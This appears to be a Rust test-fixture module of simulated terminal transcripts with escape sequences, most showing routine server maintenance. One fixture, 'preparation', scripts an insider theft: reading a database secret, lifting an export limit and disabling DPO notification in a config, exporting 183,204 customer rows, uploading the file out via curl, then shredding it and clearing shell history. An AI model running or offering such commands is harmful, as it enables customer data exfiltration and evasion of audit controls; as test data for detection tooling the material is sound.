//! What the terminals of the sample showed, line ends as `\n`; the transcripts put them as each system does.

/// A command at a prompt of bash with bracketed paste, and what it wrote.
fn run(prompt: &str, command: &str, output: &str) -> String {
    format!("\u{1b}[?2004h{prompt}{command}\n\u{1b}[?2004l\r{output}")
}

/// How the customer list came to be where the browser fetched it an hour later: the secret of the database is read, the
/// limit of the export is
/// lifted in an editor, all customers are exported, a direct way out is tried without success, the file is put on
/// the site, and the traces are removed.
pub(super) fn preparation() -> String {
    let run = |command: &str, output: &str| run("[crm@ip-10-0-3-17 ~]$ ", command, output);
    let editor = editor();
    [
        "sh-5.2$ sudo -iu crm\n".to_owned(),
        run("id; hostname", "uid=1001(crm) gid=1001(crm) groups=1001(crm)\nip-10-0-3-17.eu-central-1.compute.internal\n"),
        // Without the secret the database does not let anybody in.
        run(
            "export PGPASSWORD=$(aws secretsmanager get-secret-value --secret-id crm/db --query SecretString --output text)",
            "",
        ),
        run(
            "psql -h db.internal.example.com crm -c 'select count(*) from customers'",
            " count  \n--------\n 183204\n(1 row)\n\n",
        ),
        run("/opt/crm/bin/export --all --out /tmp/customers-2026.xlsx", "\u{1b}[31merror\u{1b}[0m: more than max_rows (5000)\n"),
        run("vim /opt/crm/etc/export.conf", &editor),
        run(
            "/opt/crm/bin/export --all --out /tmp/customers-2026.xlsx",
            "exporting  12%\rexporting  57%\rexporting 100%\nwrote 183204 rows\n",
        ),
        run("ls -l /tmp/customers-2026.xlsx", "-rw-r----- 1 crm crm 48213997 Nov 18 21:04 /tmp/customers-2026.xlsx\n"),
        run(
            "aws s3 cp /tmp/customers-2026.xlsx s3://example-handover/",
            "upload failed: ../../tmp/customers-2026.xlsx to s3://example-handover/customers-2026.xlsx \
             An error occurred (AccessDenied) when calling the CreateMultipartUpload operation: Access Denied\n",
        ),
        run(
            "curl -sS -F file=@/tmp/customers-2026.xlsx https://crm.example.com/accounts/export",
            "{\"stored\":\"customers-2026.xlsx\",\"bytes\":48213997}\n",
        ),
        // A slip of the hand, taken back.
        run("shred -u /tmp/customers-2026.xslx\u{8}\u{1b}[K\u{8}\u{1b}[K\u{8}\u{1b}[K\u{8}\u{1b}[Kxlsx", ""),
        run("history -c; exit", "logout\n"),
        "sh-5.2$ exit\n".to_owned(),
    ]
    .concat()
}

/// vim on the alternate screen: nothing of it stays on the main one.
fn editor() -> String {
    let tildes: String = (6..=23).map(|row| format!("\u{1b}[{row};1H~")).collect();
    format!(
        "\u{1b}[?1049h\u{1b}[1;24r\u{1b}[m\u{1b}[H\u{1b}[2J\u{1b}[?25l\u{1b}[24;1H\"/opt/crm/etc/export.conf\" 5L, 118B\
         \u{1b}[1;1H# Limits of the export. Changes need an approved ticket.\u{1b}[2;1Hmax_rows = 5000\
         \u{1b}[3;1Hformats = xlsx, csv\u{1b}[4;1Hwatermark = yes\u{1b}[5;1Hnotify = dpo@example.com\
         \u{1b}[94m{tildes}\u{1b}[m\u{1b}[1;1H\u{1b}[?25h\
         \u{1b}[2;12H\u{1b}[24;1H\u{1b}[K\u{1b}[1m-- INSERT --\u{1b}[m\u{1b}[2;12H999999\u{1b}[K\
         \u{1b}[24;1H\u{1b}[K\u{1b}[5;1H\u{1b}[K# notify = dpo@example.com\
         \u{1b}[24;1H:wq\r\u{1b}[24;1H\u{1b}[K\"/opt/crm/etc/export.conf\" 5L, 122B written\
         \u{1b}[24;1H\u{1b}[?1049l"
    )
}

/// A morning's maintenance of a Windows server.
pub(super) const MAINTENANCE: &str = "Windows PowerShell
Copyright (C) Microsoft Corporation. All rights reserved.

PS C:\\Windows\\system32> whoami
ec2amaz-7qk2m4d\\ssm-user
PS C:\\Windows\\system32> Get-Service W3SVC

Status   Name               DisplayName
------   ----               -----------
Stopped  W3SVC              World Wide Web Publishing Service


PS C:\\Windows\\system32> Start-Service W3SVC
PS C:\\Windows\\system32> Get-EventLog -LogName System -Newest 2 | Format-Table -AutoSize TimeGenerated, Source

TimeGenerated          Source
-------------          ------
11/18/2026 9:31:02 AM  Service Control Manager
11/18/2026 9:02:44 AM  Microsoft-Windows-WindowsUpdateClient


PS C:\\Windows\\system32> exit
";

/// Lines of a session that was streamed, as many as each message has. The agent has made one blank of each
/// tab and removed colours, but the line with a window title is left as it came, and of 日 only a
/// replacement is left.
pub(super) const STREAMED: [&[&str]; 4] = [
    &["sh-5.2$ sh-5.2$ cd /var/log/app", "sh-5.2$ ls -l | tail -3"],
    &[
        "-rw-r----- 1 app adm 912 Nov 17 10:01 access.log",
        "-rw-r----- 1 app adm 40 Nov 17 09:58 error.log",
        "-rw-r----- 1 app adm 7 Nov 17 09:58 \u{fffd}\u{fffd}.log",
        "sh-5.2$ grep -c ' 500 ' access.log",
        "17",
    ],
    &[
        "\u{1b}]0;app@ip-10-0-3-17: /var/log/app\u{7}sh-5.2$ awk '$9 >= 500 && $7 ~ /export/' access.log > /tmp/errors",
        "sh-5.2$ wc -k\u{8}l /tmp/errors",
        "17 /tmp/errors",
    ],
    &["sh-5.2$ sudo systemctl restart app", "sh-5.2$ systemctl is-active app", "active", "sh-5.2$ exit"],
];

/// The first messages of one that has not ended.
pub(super) const STREAMED_AND_OPEN: [&[&str]; 2] =
    [&["sh-5.2$ sh-5.2$ uptime"], &[" 17:06:12 up 41 days,  3:17,  1 user,  load average: 0.42, 0.40, 0.37"]];

/// Three pieces of a session that was uploaded at its end; the header and the footer stand around them.
pub(super) const UPLOADED: &str = "sh-5.2$ df -h /
Filesystem      Size  Used Avail Use% Mounted on
/dev/nvme0n1p1   20G   19G  1.1G  95% /
sh-5.2$ sudo du -xh --max-depth=2 /var | sort -h | tail -4
1.2G\t/var/cache
2.6G\t/var/lib
9.8G\t/var/log
14G\t/var
sh-5.2$ sudo journalctl --vacuum-size=500M
Vacuuming done, freed 8.9G of archived journals from /var/log/journal.
sh-5.2$ sudo tail -2 /var/log/cron
Nov 17 13:00:01 ip-10-0-3-17 CROND[20412]: (root) CMD (run-parts /etc/cron.hourly)
Nov 17 13:01:01 ip-10-0-3-17 run-parts[20419]: (/etc/cron.hourly) finished 0anacron
sh-5.2$ exit
";

/// A short look at a server in Tokyo.
pub(super) const EXPORTED: &str = "sh-4.2$ uptime
 02:16:03 up 212 days,  5:44,  0 users,  load average: 0.00, 0.01, 0.05
sh-4.2$ cat /etc/system-release
Amazon Linux release 2 (Karoo)
sh-4.2$ sudo yum -q check-update | head -2

openssl-libs.x86_64    1:1.0.2k-24.amzn2.0.16    amzn2-core
sh-4.2$ exit
";
